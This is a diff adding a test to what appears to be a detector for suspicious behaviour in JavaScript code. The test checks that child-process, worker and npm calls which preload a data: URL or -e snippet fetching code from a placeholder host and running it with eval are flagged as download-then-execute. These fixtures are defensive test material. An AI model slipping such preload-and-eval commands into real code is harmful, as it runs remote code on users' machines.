@@ -187,6 +187,26 @@ describe('commands', () => {
     assert.deepEqual(preloaded(`['--no-warnings']`), ['environment call']);
   });
 
+  it('are told code to load first by an address that holds it', () => {
+    const address = `'data:text/javascript,' + encodeURIComponent('const r = await fetch("https://load.invalid"); eval(await r.text())')`;
+    for (const start of [
+      `cp.fork('./c.js', [], { execArgv: ['--import', CODE] });`,
+      `cp.spawn(process.execPath, ['--import', CODE, 'c.js']);`,
+      `cp.spawn('npm', ['test'], { env: { ...process.env, NODE_OPTIONS: '--import ' + CODE } });`,
+      `cp.exec('npm test', { env: { NODE_OPTIONS: '--import=' + CODE } });`,
+      `require('cluster').setupPrimary({ exec: './c.js', execArgv: ['--import', CODE] });`,
+      `new (require('worker_threads').Worker)('./c.js', { execArgv: ['--import', CODE] });`,
+    ])
+      assert.deepEqual(flowsOf(start.replace('CODE', address)), ['downloaded>evaluated'], start);
+    assert.deepEqual(
+      flowsOf(
+        `cp.fork('./c.js', [], { execArgv: ['-e', 'fetch("https://a.invalid").then((r) => r.text()).then(eval)'] });`,
+      ),
+      ['downloaded>evaluated'],
+    );
+    assert.deepEqual(flowsOf(`cp.fork('./c.js', [], { execArgv: ['--max-old-space-size=4096'] });`), []);
+  });
+
   it('are npm by whatever name it has on a system', () => {
     const installs = (program: string) =>
       behavioursOf(`cp.spawn(${program}, ['i', '-g', 'claw-helper'], { stdio: 'ignore' });`);
